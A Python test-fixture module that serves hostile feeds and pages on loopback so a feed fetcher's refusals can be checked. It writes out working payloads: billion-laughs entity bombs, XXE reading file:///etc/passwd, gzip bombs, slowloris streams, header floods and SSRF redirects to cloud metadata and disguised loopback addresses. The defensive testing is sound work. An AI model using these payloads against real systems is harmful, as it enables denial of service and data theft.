"""The hostile publishers that ``test_hostile_fetch`` fetches: every case and its handler.

Each case is a host name of its own (``<case>.hostile.test``), served by the aiohttp server of
``hostile_fetch_servers`` (or its raw TCP server, for what aiohttp will not send), with the pattern
its refusal must match: ``None`` marks input that is odd but readable, which the run must read.
"""

from __future__ import annotations

import asyncio
import json
import time
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from typing import TYPE_CHECKING, Any

from aiohttp import web

if TYPE_CHECKING:
    from hostile_fetch_servers import Publisher

HOST = "127.0.0.3"
DOMAIN = "hostile.test"
#: the site's timeouts: small, so the cases that hang end quickly
CONNECT_TIMEOUT, READ_TIMEOUT, TOTAL_TIMEOUT = 0.5, 1.5, 2.0
#: pages fetched per source and run (the page-attack feed lists this many)
MAX_PAGES = 8
#: the project's own cap on a body (fetch.max_bytes, default)
MAX_BYTES = 10_000_000
#: how much more memory one run may take than the process held before it
MEMORY_BOUND = 300 * 1024 * 1024
NOW = datetime.now(UTC).replace(microsecond=0)
RECENT = format_datetime(NOW - timedelta(hours=1), usegmt=True)

PARAGRAPH = (
    "The research lab released a new language model on Tuesday, and its engineers published "
    "the evaluation, the training recipe and a safety report of forty pages before the weights "
    "were made available to universities and hospitals in three countries."
)


def article_page(title: str, extra_head: str = "", extra_body: str = "") -> str:
    """A real-looking article page: a headline and five paragraphs, enough for extraction."""
    body = "".join(f"<p>{PARAGRAPH} Part {n} of the report.</p>" for n in range(5))
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="og:site_name" content="Loopback Gazette">{extra_head}</head>'
        f"<body><article><h1>{title}</h1>{body}{extra_body}</article></body></html>"
    )


XML_DECLARATION = '<?xml version="1.0" encoding="utf-8"?>'


def rss(title: str, items: list[tuple[str, str]], *, date: str = RECENT, head: str = "") -> str:
    """An RSS 2.0 feed of ``(title, link)`` items."""
    entries = "".join(
        f"<item><title>{t}</title><link>{link}</link><guid>{link}</guid>"
        f"<pubDate>{date}</pubDate><description>A report from the lab.</description></item>"
        for t, link in items
    )
    return (
        (head or XML_DECLARATION) + '<rss version="2.0"><channel>'
        f"<title>{title}</title><link>http://example.invalid/</link>{entries}</channel></rss>"
    )


def gzip_bomb(compressed: int) -> bytes:
    """About ``compressed`` bytes of gzip that inflate a thousand times (zeros), made in an instant:
    after a full flush the compressor starts afresh, so every further megabyte of zeros compresses
    to the same bytes, repeated here (the trailer's checksum is wrong, and is never reached)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    head = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    segment = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    return head + segment * (compressed // len(segment)) + comp.flush()


def nested_json(depth: int) -> bytes:
    """A JSON Feed whose one item carries an array nested ``depth`` levels deep."""
    item = '{"id": "1", "url": "/a/deep", "title": "Deep", "_x": ' + "[" * depth + "]" * depth
    head = '{"version": "https://jsonfeed.org/version/1.1", "title": "Deep", "items": ['
    return (head + item + "}]}").encode()


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">\n' for n in range(2, 10))
    + '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n]>\n'
)


# -- the cases ------------------------------------------------------------------------------------


Handler = Callable[[web.Request, "Publisher"], Awaitable[web.StreamResponse]]
RawHandler = Callable[
    [str, asyncio.StreamReader, asyncio.StreamWriter, "Publisher"], Awaitable[None]
]


@dataclass(frozen=True)
class Case:
    """One hostile source: its host label, path, and what its failure must say.

    ``reason`` is a pattern its ``last_error`` must match (case-insensitive); ``None`` marks
    input the run must read despite what is wrong with it (the source is healthy).
    """

    name: str
    reason: str | None
    path: str = "/feed"
    raw: bool = False

    @property
    def host(self) -> str:
        return f"{self.name}.{DOMAIN}"


CASES: dict[str, Case] = {}
HANDLERS: dict[str, Handler] = {}
RAW_HANDLERS: dict[str, RawHandler] = {}


def case(name: str, reason: str | None, path: str = "/feed") -> Callable[[Handler], Handler]:
    def register(handler: Handler) -> Handler:
        CASES[name] = Case(name, reason, path)
        HANDLERS[name] = handler
        return handler

    return register


def raw_case(name: str, reason: str | None) -> Callable[[RawHandler], RawHandler]:
    def register(handler: RawHandler) -> RawHandler:
        CASES[name] = Case(name, reason, raw=True)
        RAW_HANDLERS[name] = handler
        return handler

    return register


def text(body: str | bytes, content_type: str) -> web.Response:
    data = body.encode() if isinstance(body, str) else body
    return web.Response(body=data, headers={"Content-Type": content_type})


async def good_pages(request: web.Request, pub: Publisher, feed: Callable[[str], str]) -> Any:
    """A feed at /feed whose pages /a/<slug> are real articles."""
    if request.path.startswith("/a/"):
        slug = request.path.rsplit("/", 1)[1]
        return text(article_page(f"Lab report {slug} on {request.host.split('.')[0]}"), "text/html")
    return text(feed(f"http://{request.host}"), "application/rss+xml")


@case("good", None)
async def good(request: web.Request, pub: Publisher) -> Any:
    def feed(base: str) -> str:
        return rss(
            "Good", [("Lab report one", f"{base}/a/one"), ("Lab report two", f"{base}/a/two")]
        )

    return await good_pages(request, pub, feed)


@case("good-json", None)
async def good_json(request: web.Request, pub: Publisher) -> Any:
    if request.path.startswith("/a/"):
        return text(article_page("Lab report in JSON"), "text/html")
    base = f"http://{request.host}"
    items = [{"id": "j1", "url": f"{base}/a/j1", "title": "Lab report in JSON"}]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Good JSON", "items": items}
    return text(json.dumps(feed), "application/feed+json")


# structure and parsers


@case("deep-json", r"nest|deep|depth")
async def deep_json(request: web.Request, pub: Publisher) -> Any:
    return text(nested_json(5000), "application/feed+json")


@case("deep-xml", None)
async def deep_xml(request: web.Request, pub: Publisher) -> Any:
    """An RSS feed whose item carries elements nested 5,000 deep; its other item is read."""
    if request.path.startswith("/a/"):
        return text(article_page("Lab report beside deep XML"), "text/html")
    base = f"http://{request.host}"
    deep = "<x>" * 5000 + "</x>" * 5000
    feed = rss("Deep XML", [("Lab report beside deep XML", f"{base}/a/one")])
    return text(
        feed.replace("</channel>", f"<item><title>deep</title>{deep}</item></channel>"),
        "application/rss+xml",
    )


@case("year-one", None)
async def year_one(request: web.Request, pub: Publisher) -> Any:
    """An item dated 1 January of year 1, on a page whose metadata says so too."""
    if request.path.startswith("/a/"):
        ld = json.dumps({"@type": "NewsArticle", "datePublished": "0001-01-01T00:00:00Z"})
        head = (
            '<meta property="article:published_time" content="0001-01-01T00:00:00Z">'
            f'<script type="application/ld+json">{ld}</script>'
        )
        return text(article_page("Lab report from year one", extra_head=head), "text/html")
    base = f"http://{request.host}"
    feed = rss(
        "Year one",
        [("Lab report from year one", f"{base}/a/one")],
        date="Mon, 01 Jan 0001 00:00:00 GMT",
    )
    return text(feed, "application/rss+xml")


@case("billion-laughs", r"entit")
async def billion_laughs(request: web.Request, pub: Publisher) -> Any:
    body = (
        BILLION_LAUGHS.format(root="rss")
        + '<rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
    )
    return text(body, "application/rss+xml")


@case("xxe", r"entit")
async def xxe(request: web.Request, pub: Publisher) -> Any:
    body = (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title>'
        f"<link>http://{request.host}/a/x</link></item></channel></rss>"
    )
    return text(body, "application/rss+xml")


@case("xxe-parameter", r"entit")
async def xxe_parameter(request: web.Request, pub: Publisher) -> Any:
    body = (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
        f'"http://127.0.0.2:{pub.canary_port}/evil.dtd"> %remote;]>'
        '<rss version="2.0"><channel><title>t</title></channel></rss>'
    )
    return text(body, "application/rss+xml")


@case("external-dtd", None)
async def external_dtd(request: web.Request, pub: Publisher) -> Any:
    """A DOCTYPE naming an external DTD (allowed, as in RSS 0.91) that must never be loaded."""
    if request.path.startswith("/a/"):
        return text(article_page("Lab report with a DTD"), "text/html")
    head = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://127.0.0.2:{pub.canary_port}/rss.dtd">'
    )
    base = f"http://{request.host}"
    return text(
        rss("DTD", [("Lab report with a DTD", f"{base}/a/one")], head=head), "application/rss+xml"
    )


@case("sitemap-laughs", r"entit")
async def sitemap_laughs(request: web.Request, pub: Publisher) -> Any:
    body = BILLION_LAUGHS.format(root="urlset") + (
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&lol9;</loc></url></urlset>'
    )
    return text(body, "application/xml")


@case("sitemap-xxe", r"entit")
async def sitemap_xxe(request: web.Request, pub: Publisher) -> Any:
    body = (
        '<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&xxe;</loc></url></urlset>'
    )
    return text(body, "application/xml")


@case("opml-laughs", r"opml|entit")
async def opml_laughs(request: web.Request, pub: Publisher) -> Any:
    body = BILLION_LAUGHS.format(root="opml") + (
        '<opml version="2.0"><body><outline text="&lol9;" xmlUrl="http://x.invalid/"/></body></opml>'
    )
    return text(body, "text/x-opml")


# sizes and encodings


@case("gzip-bomb", r"decompress|expands")
async def gzip_bomb_case(request: web.Request, pub: Publisher) -> Any:
    return web.Response(
        body=pub.bomb, headers={"Content-Encoding": "gzip", "Content-Type": "application/rss+xml"}
    )


@case("gzip-file-bomb", r"gzip body (decompresses past|expands more than)")
async def gzip_file_bomb(request: web.Request, pub: Publisher) -> Any:
    """A .xml.gz file (no Content-Encoding): the bomb is in the body itself."""
    return text(pub.bomb, "application/xml")


@case("huge-declared", r"larger than \d+ bytes")
async def huge_declared(request: web.Request, pub: Publisher) -> Any:
    return await stream(request, pub, "huge-declared", length=200_000_000)


@case("huge-streamed", r"larger than \d+ bytes")
async def huge_streamed(request: web.Request, pub: Publisher) -> Any:
    return await stream(request, pub, "huge-streamed")


@case("endless-chunked", r"timed out.*total_timeout")
async def endless_chunked(request: web.Request, pub: Publisher) -> Any:
    """A chunked body that never ends, slow enough never to reach the size cap."""
    return await stream(request, pub, "endless-chunked", chunk=b"<item>" * 100, pause=0.02)


@case("slowloris", r"timed out.*total_timeout")
async def slowloris(request: web.Request, pub: Publisher) -> Any:
    """A byte of body every half second: never silent long enough for the read timeout."""
    return await stream(request, pub, "slowloris", chunk=b" ", pause=0.5)


async def stream(
    request: web.Request,
    pub: Publisher,
    name: str,
    *,
    length: int | None = None,
    chunk: bytes = b"<!-- filler -->" * 4096,
    pause: float = 0.0,
    limit: float = 30.0,
) -> web.StreamResponse:
    """A body of 200 MB (or endless) written lazily, a chunk at a time, until the client leaves;
    what was sent is counted in ``pub.sent[name]``."""
    response = web.StreamResponse(headers={"Content-Type": "application/rss+xml"})
    if length is not None:
        response.content_length = length
    else:
        response.enable_chunked_encoding()
    await response.prepare(request)
    await response.write(b'<?xml version="1.0"?><rss version="2.0"><channel>')
    started = time.monotonic()
    try:
        while time.monotonic() - started < limit and pub.sent.get(name, 0) < 200_000_000:
            await response.write(chunk)
            pub.sent[name] = pub.sent.get(name, 0) + len(chunk)
            await asyncio.sleep(pause)
    except (ConnectionError, RuntimeError):
        pass  # the client gave up: what the case wants
    return response


@case("binary-html", r"not parseable as HTML|no article text")
async def binary_html(request: web.Request, pub: Publisher) -> Any:
    return text(pub.noise, "text/html")


@case("bad-utf8", None)
async def bad_utf8(request: web.Request, pub: Publisher) -> Any:
    """Invalid UTF-8 (a stray byte, an overlong slash, a surrogate, a truncated sequence) in a
    feed and a page that both declare UTF-8; a JSON escape for a lone surrogate in the title."""
    junk = b"\xff \xc0\xaf \xed\xa0\x80 \xe2\x82"
    if request.path.startswith("/a/"):
        page = article_page("Lab report with bad bytes").encode()
        return text(page.replace(b"Part 1", b"Part 1 " + junk), "text/html; charset=utf-8")
    base = f"http://{request.host}"
    feed = rss("Bad bytes", [("Lab report with bad bytes", f"{base}/a/one")]).encode()
    return text(feed.replace(b"<description>", b"<description>" + junk), "application/rss+xml")


@case("lone-surrogate", None)
async def lone_surrogate(request: web.Request, pub: Publisher) -> Any:
    if request.path.startswith("/a/"):
        return text(
            article_page("Lab report \\ud800 surrogate").replace("\\ud800", "&#xD800;"), "text/html"
        )
    base = f"http://{request.host}"
    items = [
        {
            "id": "s1",
            "url": f"{base}/a/s1",
            "title": "Lab report \ud800 surrogate",
            "content_text": "half a pair \udc00 of surrogates",
        }
    ]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Lone \ud800", "items": items}
    return text(json.dumps(feed), "application/feed+json")


@case("nul-bytes", None)
async def nul_bytes(request: web.Request, pub: Publisher) -> Any:
    if request.path.startswith("/a/"):
        page = article_page("Lab report with\x00 NUL bytes").replace("Part 2", "Part\x00 2")
        return text(page, "text/html; charset=utf-8")
    base = f"http://{request.host}"
    feed = rss("NUL\x00", [("Lab report with\x00 NUL bytes", f"{base}/a/one")])
    return text(feed, "application/rss+xml")


@case("huge-title", None)
async def huge_title(request: web.Request, pub: Publisher) -> Any:
    """A 5 MB title, in the feed and on the page."""
    title = "Lab report " + "very " * 1_000_000 + "long"
    if request.path.startswith("/a/"):
        page = article_page("Lab report with a huge title").replace("<title>", "<title>" + title, 1)
        return text(page, "text/html")
    return text(rss("Huge title", [(title, f"http://{request.host}/a/one")]), "application/rss+xml")


@case("many-items", None)
async def many_items(request: web.Request, pub: Publisher) -> Any:
    """50,000 items in an RSS feed; their pages are real articles. It has an ETag (and answers
    304 to it), so the second run spends no time reading it again."""
    if request.path.startswith("/a/"):
        return text(article_page(f"Lab report {request.path[3:]} of many"), "text/html")
    if request.headers.get("If-None-Match") == '"many"':
        return web.Response(status=304, headers={"ETag": '"many"'})
    response = text(pub.many_rss(f"http://{request.host}"), "application/rss+xml")
    response.headers["ETag"] = '"many"'
    return response


@case("many-json-items", None)
async def many_json_items(request: web.Request, pub: Publisher) -> Any:
    if request.path.startswith("/a/"):
        return text(article_page(f"Lab report {request.path[3:]} of many JSON"), "text/html")
    base = f"http://{request.host}"
    items = [{"id": str(n), "url": f"{base}/a/{n}", "title": f"Item {n}"} for n in range(50_000)]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Many", "items": items}
    return text(json.dumps(feed), "application/feed+json")


@case("unknown-encoding", r"unsupported content-encoding")
async def unknown_encoding(request: web.Request, pub: Publisher) -> Any:
    return web.Response(body=b"\x00" * 100, headers={"Content-Encoding": "br"})


# redirects


@case("redirect-loop", r"more than 5 redirects")
async def redirect_loop(request: web.Request, pub: Publisher) -> Any:
    raise web.HTTPFound(request.path)


@case("redirect-pingpong", r"more than 5 redirects")
async def redirect_pingpong(request: web.Request, pub: Publisher) -> Any:
    other = f"http://redirect-loop.{DOMAIN}:{request.url.port}/feed"
    raise web.HTTPFound(other if request.path == "/feed" else "/feed")


@case("slow-redirects", r"timed out.*in all, redirects included.*total_timeout", "/hop/5?wait=0.5")
async def slow_redirects(request: web.Request, pub: Publisher) -> Any:
    """/hop/<n>?wait=<s>: answers after <s> seconds with a redirect to /hop/<n-1>; /hop/0 is a
    feed. Each hop stays well inside the read timeout: only the budget of the whole can end it."""
    await asyncio.sleep(float(request.query["wait"]))
    left = int(request.path.rsplit("/", 1)[1])
    if left == 0:
        return text(rss("Slow", []), "application/rss+xml")
    raise web.HTTPFound(f"/hop/{left - 1}?wait={request.query['wait']}")


#: where the SSRF cases redirect (``{cp}`` is the canary's port) and what the refusal must say
SSRF_TARGETS: dict[str, tuple[str, str]] = {
    "to-loopback": ("http://127.0.0.2:{cp}/feed", r"refused: 127\.0\.0\.2 is a loopback address"),
    "to-private": ("http://10.0.0.1/feed", r"refused: 10\.0\.0\.1 is a private address"),
    "to-metadata": (
        "http://169.254.169.254/latest/meta-data/",
        r"refused: 169\.254\.169\.254 is a link-local address",
    ),
    "to-decimal": (
        "http://2130706433:{cp}/feed",
        r"refused: 2130706433 is the address 127\.0\.0\.1 in a non-standard form",
    ),
    "to-octal": (
        "http://0177.0.0.1:{cp}/feed",
        r"refused: 0177\.0\.0\.1 is the address 127\.0\.0\.1 in a non-standard form",
    ),
    "to-hex": (
        "http://0x7f.0.0.2:{cp}/feed",
        r"refused: 0x7f\.0\.0\.2 is the address 127\.0\.0\.2 in a non-standard form",
    ),
    "to-short": ("http://127.2:{cp}/feed", r"refused: 127\.2 is the address 127\.0\.0\.2"),
    "to-ipv6-loopback": ("http://[::1]:{cp}/feed", r"refused: ::1 is a loopback"),
    "to-mapped-ipv6": (
        "http://[::ffff:127.0.0.2]:{cp}/feed",
        r"refused: ::ffff:7f00:2 is a loopback",
    ),
    "to-localhost": ("http://localhost:{cp}/feed", r"refused: .*loopback.*resolved from localhost"),
    "to-metadata-name": (
        f"http://metadata.{DOMAIN}/latest/meta-data/",
        r"refused: 169\.254\.169\.254 is a link-local.*resolved from metadata",
    ),
    "to-file": ("file:///etc/passwd", r"refused: file:// is not allowed"),
}


def _ssrf_handler(target: str) -> Handler:
    async def handler(request: web.Request, pub: Publisher) -> Any:
        raise web.HTTPFound(target.format(cp=pub.canary_port))

    return handler


for _name, (_target, _reason) in SSRF_TARGETS.items():
    case(f"ssrf-{_name}", _reason)(_ssrf_handler(_target))


# protocol-level cases, on the raw TCP server


async def _until_closed(reader: asyncio.StreamReader, limit: float = 30.0) -> None:
    try:
        async with asyncio.timeout(limit):
            while await reader.read(1024):
                pass
    except (TimeoutError, ConnectionError):
        pass


@raw_case("never-answers", r"timed out")
async def never_answers(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    await _until_closed(reader)


@raw_case("header-slowloris", r"timed out")
async def header_slowloris(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nX-Slow: ")
    for _ in range(60):
        writer.write(b"a")
        await writer.drain()
        await asyncio.sleep(0.5)


@raw_case("header-flood", r"not a valid HTTP answer: too many headers")
async def header_flood(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\n")
    for block in range(200):
        writer.write(b"".join(b"X-Flood-%d: value\r\n" % (block * 1000 + n) for n in range(1000)))
        await writer.drain()


@raw_case("huge-header", r"not a valid HTTP answer: got more than 8190 bytes")
async def huge_header(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nX-Huge: " + b"h" * 5_000_000 + b"\r\n\r\n")
    await writer.drain()


@raw_case("garbage-status", r"not a valid HTTP answer: bad status line")
async def garbage_status(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    writer.write(b"\x00\xffNOT HTTP AT ALL\r\n\r\n" + bytes(range(256)) * 10)


@raw_case("truncated", r"payload is not completed")
async def truncated(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    writer.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n"
        b'<rss version="2.0"><channel><title>cut'
    )


@raw_case("robots-hang", None)
async def robots_hang(path: str, reader: Any, writer: Any, pub: Publisher) -> None:
    """robots.txt never answers; the feed and its page are fine and must still be read."""
    if path == "/robots.txt":
        await _until_closed(reader)
        return
    if path.startswith("/a/"):
        body, kind = article_page("Lab report past a hanging robots.txt").encode(), b"text/html"
    else:
        base = f"http://robots-hang.{DOMAIN}:{pub.raw_port}"
        body = rss("Robots", [("Lab report past a hanging robots.txt", f"{base}/a/one")]).encode()
        kind = b"application/rss+xml"
    writer.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
        % (kind, len(body))
        + body
    )


#: article pages behind one ordinary feed, and what their fetch log line must say (None: stored)
PAGES: dict[str, str | None] = {
    "fine": None,
    "bomb": r"decompress|expands",
    "huge": r"larger than \d+ bytes",
    "slow": r"timed out",
    "metadata": r"refused: 169\.254\.169\.254 is a link-local",
    "binary": r".",
    "empty": r"empty",
    "deep-html": None,
}


@case("pages", None)
async def pages(request: web.Request, pub: Publisher) -> Any:
    """An ordinary feed whose items lead to hostile article pages (and one good one)."""
    base = f"http://{request.host}"
    kind = request.path.removeprefix("/p/")
    if request.path == "/feed":
        items = [(f"Lab report page {name}", f"{base}/p/{name}") for name in PAGES]
        return text(rss("Pages", items), "application/rss+xml")
    if kind == "fine":
        return text(article_page("Lab report page fine"), "text/html")
    if kind == "bomb":
        return web.Response(
            body=pub.bomb, headers={"Content-Encoding": "gzip", "Content-Type": "text/html"}
        )
    if kind == "huge":
        return await stream(request, pub, "pages-huge")
    if kind == "slow":
        return await stream(request, pub, "pages-slow", chunk=b" ", pause=0.5)
    if kind == "metadata":
        raise web.HTTPFound("http://169.254.169.254/latest/meta-data/iam/")
    if kind == "binary":
        return text(pub.noise, "text/html")
    if kind == "empty":
        return text(b"", "text/html")
    if kind == "deep-html":
        return text(article_page("Lab report deep", extra_body="<div>" * 100_000), "text/html")
    return web.Response(status=404)


@case("hanging-pages", None)
async def hanging_pages(request: web.Request, pub: Publisher) -> Any:
    """An ordinary feed whose every page trickles a byte every half second, never ending: the
    host's first pages time out, and the rest must not each wait their turn to time out too."""
    if request.path == "/feed":
        base = f"http://{request.host}"
        items = [(f"Lab report hanging {n}", f"{base}/a/{n}") for n in range(MAX_PAGES)]
        return text(rss("Hanging", items), "application/rss+xml")
    return await stream(request, pub, "hanging-pages", chunk=b" ", pause=0.5)
